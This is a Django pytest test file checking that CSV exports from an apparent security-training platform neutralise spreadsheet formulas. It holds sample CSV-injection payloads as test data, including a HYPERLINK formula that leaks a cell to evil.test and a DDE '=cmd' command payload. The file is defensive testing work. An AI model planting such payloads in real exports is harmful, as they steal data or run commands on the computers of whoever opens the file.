"""CSV exports cannot carry a formula into an instructor's spreadsheet (vulhub.lib.exports).

A cell starting with =, +, -, @, a tab or a carriage return gets a leading single quote
(OWASP's advice); anything else is exported as it is.
"""

import csv
import io

import pytest
from django.contrib import admin
from django.test import RequestFactory

from challenges.factories import ProjectFactory
from scoring import services
from scoring.factories import SubmissionFactory
from tenants.factories import StudentFactory
from vulhub.lib.exports import FormulaSafeExportMixin, neutralise_formula

pytestmark = pytest.mark.usefixtures("fast_hashing")

HYPERLINK = '=HYPERLINK("https://evil.test/?leak="&A1,"Your grades")'
DDE = "=cmd|' /C calc'!A0"


def export(client, path):
    """Export as CSV with every field of the (only) resource ticked; the rows, header first."""
    form = client.get(path).context["form"]
    data = {
        "format": "0",
        "resource": "0",
        **{name: "on" for name in form.fields if "_" in name and name not in ("export_items",)},
    }
    response = client.post(path, data)
    assert response["Content-Type"].startswith("text/csv"), response.status_code
    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))


def column(rows, name):
    index = rows[0].index(name)
    return [row[index] for row in rows[1:]]


@pytest.mark.parametrize(
    ("value", "exported"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Ada", "Ada"),
        ("a=b", "a=b"),
        (" =1", " =1"),  # a leading space is text to every spreadsheet
        ("", ""),
        (None, None),
        (42, 42),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(value, exported):
    assert neutralise_formula(value) == exported


def test_a_student_named_like_a_formula_is_text_in_the_leaderboard_export(tenant, instructor, client_for):
    student = StudentFactory(tenant=tenant, email="eve@alpha.test", first_name=HYPERLINK, last_name="")
    honest = StudentFactory(tenant=tenant, email="ada@alpha.test", first_name="Ada", last_name="Lovelace")
    project = ProjectFactory(tenant=tenant, flag="FLAG{x}", points=50)
    for who in (student, honest):
        services.submission_create(user=who, project=project, flag="FLAG{x}")

    rows = export(client_for(tenant, instructor), "/admin/scoring/leaderboard/export/")

    names = dict(zip(column(rows, "E-mail"), column(rows, "First name"), strict=True))
    assert names == {"eve@alpha.test": "'" + HYPERLINK, "ada@alpha.test": "Ada"}
    assert column(rows, "Points") == ["50", "50"], "numbers are left alone"


def test_submission_cells_are_neutralised_whoever_wrote_them(tenant, instructor, client_for):
    student = StudentFactory(tenant=tenant, email="-sneaky@alpha.test")
    project = ProjectFactory(tenant=tenant, name="@SUM(1+1)*cmd|' /C calc'!A0")
    SubmissionFactory(
        tenant=tenant, user=student, project=project, approved=True, graded_by=instructor, feedback="\t=1+1"
    )

    rows = export(client_for(tenant, instructor), "/admin/scoring/submission/export/?status__exact=APPROVED")

    assert column(rows, "E-mail") == ["'-sneaky@alpha.test"]
    assert column(rows, "Challenge") == ["'@SUM(1+1)*cmd|' /C calc'!A0"]
    assert column(rows, "Feedback") == ["'\t=1+1"]


def test_the_user_export_neutralises_names(tenant, tenant_admin, client_for):
    StudentFactory(tenant=tenant, email="dde@alpha.test", first_name=DDE, last_name="+1+2")

    rows = export(client_for(tenant, tenant_admin), "/admin/tenants/user/export/")

    [row] = [row for row in rows[1:] if row[rows[0].index("E-mail")] == "dde@alpha.test"]
    assert (row[rows[0].index("First name")], row[rows[0].index("Last name")]) == ("'" + DDE, "'+1+2")
    assert column(rows, "E-mail").count("admin@alpha.test") == 1, "plain cells are unchanged"


def test_every_export_the_admin_offers_is_formula_safe(db):
    request = RequestFactory().get("/admin/")
    offered = {
        resource
        for model_admin in admin.site._registry.values()
        if hasattr(model_admin, "get_export_resource_classes")
        for resource in model_admin.get_export_resource_classes(request)
    }

    assert len(offered) >= 3  # users, submissions, leaderboard
    assert [r.__name__ for r in offered if not issubclass(r, FormulaSafeExportMixin)] == []
